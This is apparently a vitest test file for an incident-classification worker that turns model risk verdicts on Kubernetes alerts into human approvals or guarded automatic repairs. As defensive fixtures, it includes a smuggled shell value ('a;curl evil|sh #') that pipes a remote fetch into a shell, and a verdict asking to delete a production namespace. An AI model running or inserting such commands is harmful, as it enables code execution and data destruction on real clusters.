import { afterAll, describe, expect, it } from "vitest";
import type { Env } from "../../../functions/classify/src/env.ts";
import worker from "../../../functions/classify/src/index.ts";
import { createApprovalStore } from "../../../shared/adapters/neon-kysely-approval-store.ts";
import { createIncidentStore } from "../../../shared/adapters/neon-kysely-incident-store.ts";
import { trustKeys } from "../../../shared/adapters/upstash-trust-counters.ts";
import { type DeadLetterV1, type ExecuteRequestedV1, NotifyRequestedV2 } from "../../../shared/contracts/queue.ts";
import { recordingQueue } from "../../support/fixtures/messages.ts";
import { dbForTests, redisForTests, testEnv } from "../../support/worker/env.ts";
import { deliver } from "../../support/worker/queue.ts";
import { seedAnalyzedIncident } from "../../support/worker/seed.ts";

const db = dbForTests();
afterAll(() => db.destroy());

function harness(vars: Record<string, string> = {}) {
  const notify = recordingQueue<NotifyRequestedV2>();
  const execute = recordingQueue<ExecuteRequestedV1>();
  const deadLetters = recordingQueue<DeadLetterV1>();
  const env = { ...testEnv, ...vars, NOTIFY_QUEUE: notify, EXECUTE_QUEUE: execute, DEAD_LETTER_QUEUE: deadLetters } as unknown as Env;
  return { notify, execute, deadLetters, run: (bodies: unknown[]) => deliver(worker, env, "awoooi-classify", bodies) };
}

/**
 * classify with the reference executor (and its fake kubectl) answering plans.
 * The hourly budget is shared by every test on this Redis database in this
 * hour, so it is raised here; the budget itself is pinned in trust-counters.test.ts.
 */
const withExecutor = (vars: Record<string, string> = {}) =>
  harness({
    EXECUTOR_URL: testEnv.TEST_REFERENCE_EXECUTOR_URL!,
    EXECUTOR_SECRET: testEnv.TEST_REFERENCE_EXECUTOR_SECRET!,
    MAX_REPAIRS_PER_HOUR: "1000000",
    ...vars,
  });

const lowRisk = (suggested_action: { operation: "DELETE_POD" | "SCALE_DEPLOYMENT" | "RESTART_DEPLOYMENT"; command: string; description?: string }) => ({
  risk_level: "low" as const,
  provider: "ollama" as const,
  model: "llama3.2",
  confidence: 92,
  suggested_action: { description: "d", ...suggested_action },
});

describe("classify queue consumer", () => {
  it.each([
    ["medium", 1],
    ["high", 2],
    ["critical", 2],
  ] as const)("turns a %s-risk verdict into a pending approval needing %d signature(s)", async (risk_level, required) => {
    const { notify, run } = harness();
    const message = await seedAnalyzedIncident(db, { risk_level });
    await run([message]);

    const approval = await createApprovalStore(db).getByIncident(message.payload.incident_id);
    expect(approval).toMatchObject({ status: "PENDING", riskLevel: risk_level, requiredSignatures: required, autoApproved: false });
    expect(approval?.expiresAt.getTime()).toBeGreaterThan(Date.now());
    const audit = await createApprovalStore(db).auditTrail(approval!.id);
    expect(audit.map((a) => a.action)).toEqual(["approval.requested"]);

    const sent = NotifyRequestedV2.parse(notify.sent[0]);
    expect(sent.payload).toMatchObject({ kind: "approval_requested", approval_id: approval!.id, required_signatures: required });
    expect(sent.payload.expires_at).toBe(Math.floor(approval!.expiresAt.getTime() / 1000));
  });

  it("auto-approves a low-risk model verdict when every guardrail holds, with an audit row saying so", async () => {
    const { notify, execute, run } = withExecutor({ AUTO_APPROVE_NAMESPACES: "production" });
    const hour = Math.floor(Date.now() / 3_600_000);
    const repairsBefore = Number((await redisForTests().get<string>(trustKeys.repairs(hour))) ?? 0);
    const message = await seedAnalyzedIncident(db, {
      risk_level: "low",
      provider: "ollama",
      model: "llama3.2",
      confidence: 92,
      suggested_action: { operation: "DELETE_POD", command: "kubectl delete pod api-server-7d4b8c9f5-xk2m3 -n production", description: "replace the pod" },
    });
    await run([message]);
    const approval = await createApprovalStore(db).getByIncident(message.payload.incident_id);
    expect(approval).toMatchObject({ status: "APPROVED", autoApproved: true, requiredSignatures: 0 });
    // The executor's plan (a server dry run against the fake kubectl) is kept with every guardrail's verdict.
    expect(approval?.action.plan).toMatchObject({ facts: { ready_replicas: 3, target_ready: true }, dry_run: { ok: true } });
    expect(approval?.action.guardrails.every((g) => g.passed)).toBe(true);
    expect(approval?.reasons.join(" ")).toContain("another replica ready");
    expect((await createApprovalStore(db).auditTrail(approval!.id)).map((a) => a.action)).toEqual(["approval.auto_approved"]);
    expect(notify.sent[0]?.payload.kind).toBe("auto_approved");

    // The hand-off is written with the approval and announced on the execute queue.
    const execution = await db.selectFrom("executions").selectAll().where("approval_id", "=", approval!.id).executeTakeFirstOrThrow();
    expect(execution).toMatchObject({
      status: "requested",
      automatic: true,
      dry_run: true,
      operation: "DELETE_POD",
      argv: ["kubectl", "delete", "pod", "api-server-7d4b8c9f5-xk2m3", "-n", "production", "--wait=false"],
      action_digest: approval?.action.digest,
    });
    expect(execute.sent).toEqual([
      expect.objectContaining({ id: `execute:${execution.id}`, payload: expect.objectContaining({ execution_id: execution.id }) }),
    ]);
    // …and counted against the hourly budget of automatic repairs.
    expect(Number(await redisForTests().get<string>(trustKeys.repairs(hour)))).toBeGreaterThanOrEqual(repairsBefore + 1);
    const incident = await createIncidentStore(db).get(message.payload.incident_id);
    expect(incident?.triage).toMatchObject({ decision: "auto_approve", risk_level: "low", required_signatures: 0 });
  });

  it("never auto-approves without a plan: no executor, no automatic action", async () => {
    const { run } = harness({ AUTO_APPROVE_NAMESPACES: "production" });
    const message = await seedAnalyzedIncident(db, lowRisk({ operation: "DELETE_POD", command: "" }));
    await run([message]);
    const approval = await createApprovalStore(db).getByIncident(message.payload.incident_id);
    expect(approval).toMatchObject({ status: "PENDING", autoApproved: false });
    expect(approval?.reasons.join(" ")).toContain("no plan (no executor configured)");
  });

  it("runs the alert's own pod deletion, never the namespace deletion a verdict's text asks for", async () => {
    const { execute, run } = withExecutor({ AUTO_APPROVE_NAMESPACES: "production" });
    const message = await seedAnalyzedIncident(db, lowRisk({ operation: "DELETE_POD", command: "kubectl delete namespace production" }));
    await run([message]);
    const approval = await createApprovalStore(db).getByIncident(message.payload.incident_id);
    expect(approval?.action).toMatchObject({
      argv: ["kubectl", "delete", "pod", "api-server-7d4b8c9f5-xk2m3", "-n", "production", "--wait=false"],
      note: "kubectl delete namespace production",
    });
    expect(approval?.status, approval?.reasons.join(" | ")).toBe("APPROVED");
    const execution = await db.selectFrom("executions").selectAll().where("approval_id", "=", approval!.id).executeTakeFirstOrThrow();
    expect(JSON.stringify([execution.argv, execution.command, execution.action])).not.toContain("namespace production");
    expect(execute.sent).toHaveLength(1);
  });

  it("leaves a scale with two --replicas values to a human, with no executable action", async () => {
    const { execute, run } = withExecutor({ AUTO_APPROVE_NAMESPACES: "production" });
    const message = await seedAnalyzedIncident(
      db,
      lowRisk({ operation: "SCALE_DEPLOYMENT", command: "kubectl scale deployment/api-server --replicas=2 --replicas=500" }),
    );
    await run([message]);
    const approval = await createApprovalStore(db).getByIncident(message.payload.incident_id);
    expect(approval).toMatchObject({ status: "PENDING", action: { typed: null, argv: null, digest: null } });
    expect(approval?.reasons.join(" ")).toContain("ambiguous");
    expect(execute.sent).toHaveLength(0);
  });

  it("puts no hostile pod name into any command", async () => {
    const { run } = withExecutor({ AUTO_APPROVE_NAMESPACES: "production" });
    const message = await seedAnalyzedIncident(db, undefined, { alert: { target_resource: "a;curl evil|sh #", alert_type: "PodRestarting" } });
    await run([message]);
    const approval = await createApprovalStore(db).getByIncident(message.payload.incident_id);
    expect(approval?.action.argv).toBeNull();
    expect(approval?.action.command).not.toContain("curl");
    expect(approval?.action.issues.join(" ")).toContain("not a valid Kubernetes name");
  });

  it("asks a human when the plan says the pod is the last ready replica", async () => {
    const { run } = withExecutor({ AUTO_APPROVE_NAMESPACES: "production" });
    const message = await seedAnalyzedIncident(db, lowRisk({ operation: "DELETE_POD", command: "" }), { alert: { target_resource: "solo-7d4b8c9f5-abcde" } });
    await run([message]);
    // The fake kubectl runs "solo…" workloads with one replica.
    const approval = await createApprovalStore(db).getByIncident(message.payload.incident_id);
    expect(approval).toMatchObject({ status: "PENDING", action: { plan: { facts: { ready_replicas: 1, target_ready: true } } } });
    expect(approval?.reasons.join(" ")).toContain("only 0 other ready replica(s) would remain");
  });

  it("sends a link-less notice and creates no approval when no safe action exists", async () => {
    const { notify, execute, run } = harness();
    const message = await seedAnalyzedIncident(db, {
      risk_level: "medium",
      suggested_action: { operation: "INVESTIGATE", command: "kubectl describe pod p -n production", description: "look closer" },
    });
    await run([message]);
    await run([message]);
    expect(await createApprovalStore(db).getByIncident(message.payload.incident_id)).toBeUndefined();
    const incident = await createIncidentStore(db).get(message.payload.incident_id);
    expect(incident?.triage).toMatchObject({ decision: "notify_only", required_signatures: 0 });
    expect(incident?.triage?.reasons.join(" ")).toContain("investigate");
    const sent = notify.sent.map((m) => NotifyRequestedV2.parse(m));
    expect(new Set(sent.map((m) => m.id))).toEqual(new Set([`notify:${message.payload.incident_id}:notify_only`]));
    expect(sent[0]?.payload).toMatchObject({ kind: "notify_only", required_signatures: 0 });
    expect(sent[0]?.payload.approval_id).toBeUndefined();
    expect(execute.sent).toHaveLength(0);
  });

  it("keeps approvals open as long as APPROVAL_EXPIRY says for the priority", async () => {
    const { run } = harness({ APPROVAL_EXPIRY: "P0=10m,P1=2h,P2=2h,P3=2h" });
    const message = await seedAnalyzedIncident(db, { risk_level: "high" });
    const before = Date.now();
    await run([message]);
    const approval = await createApprovalStore(db).getByIncident(message.payload.incident_id);
    const expected = message.payload.alert.priority === "P0" ? 600_000 : 7_200_000;
    expect(approval!.expiresAt.getTime() - before).toBeGreaterThan(expected - 5_000);
    expect(approval!.expiresAt.getTime() - before).toBeLessThan(expected + 5_000);
  });

  it("refuses a malformed APPROVAL_EXPIRY, naming the variable", async () => {
    const { run } = harness({ APPROVAL_EXPIRY: "P0=soon" });
    const message = await seedAnalyzedIncident(db);
    await expect(run([message])).rejects.toThrow(/APPROVAL_EXPIRY: "P0=soon" must look like P0=30m/);
  });

  it("asks a human for a low-risk verdict outside the automatic namespaces, saying why", async () => {
    const { run } = harness();
    const message = await seedAnalyzedIncident(db, {
      risk_level: "low",
      provider: "ollama",
      confidence: 92,
      suggested_action: { operation: "DELETE_POD", command: "kubectl delete pod p -n production", description: "d" },
    });
    await run([message]);
    const approval = await createApprovalStore(db).getByIncident(message.payload.incident_id);
    expect(approval).toMatchObject({ status: "PENDING", requiredSignatures: 1 });
    expect(approval?.reasons.join(" ")).toContain("namespace production is not allowed");
  });

  it("asks a human when a low-risk verdict comes from rules only", async () => {
    const { run } = harness();
    const message = await seedAnalyzedIncident(db, { risk_level: "low" });
    await run([message]);
    expect(await createApprovalStore(db).getByIncident(message.payload.incident_id)).toMatchObject({ status: "PENDING", requiredSignatures: 1 });
  });

  it("absorbs redelivery: one approval row, one audit row, the same notify message id", async () => {
    const { notify, run } = harness();
    const message = await seedAnalyzedIncident(db, { risk_level: "high" });
    await run([message]);
    await run([message, message]);
    const rows = await db.selectFrom("approvals").select("id").where("incident_id", "=", message.payload.incident_id).execute();
    expect(rows).toHaveLength(1);
    expect(await createApprovalStore(db).auditTrail(rows[0]!.id)).toHaveLength(1);
    expect(new Set(notify.sent.map((m) => m.id))).toEqual(new Set([`notify:${rows[0]!.id}:approval_requested`]));
  });

  it("dead-letters a message of an unknown version", async () => {
    const { deadLetters, run } = harness();
    const message = await seedAnalyzedIncident(db);
    await run([{ ...message, version: 9 }]);
    expect(deadLetters.sent[0]?.payload.reason).toContain("version 9");
  });

  it("retries a message whose incident row is missing rather than dropping it", async () => {
    const { run, notify } = harness();
    const message = await seedAnalyzedIncident(db);
    const orphan = { ...message, payload: { ...message.payload, incident_id: crypto.randomUUID() } };
    const { result } = await run([orphan]);
    expect(result.retryMessages).toHaveLength(1);
    expect(notify.sent).toHaveLength(0);
  });
});

describe("an incident that resolved before classify ran", () => {
  it("gets an obsolete approval and no notification", async () => {
    const { notify, run } = harness();
    const message = await seedAnalyzedIncident(db, { risk_level: "high" });
    await createIncidentStore(db).resolve(message.payload.incident_id, new Date());
    await run([message]);
    const approval = await createApprovalStore(db).getByIncident(message.payload.incident_id);
    expect(approval?.status).toBe("OBSOLETE");
    expect((await createApprovalStore(db).auditTrail(approval!.id)).map((a) => a.action)).toEqual(["approval.obsolete"]);
    expect(notify.sent).toHaveLength(0);
  });
});
